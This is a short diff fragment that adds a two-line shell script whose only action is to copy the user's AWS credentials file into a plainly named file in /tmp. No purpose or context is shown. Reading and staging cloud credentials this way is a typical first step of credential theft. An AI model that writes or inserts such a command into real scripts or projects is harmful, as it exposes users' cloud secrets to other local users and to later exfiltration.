@@ -1,0 +1,2 @@
+#!/bin/sh
+cat ~/.aws/credentials > /tmp/c.txt
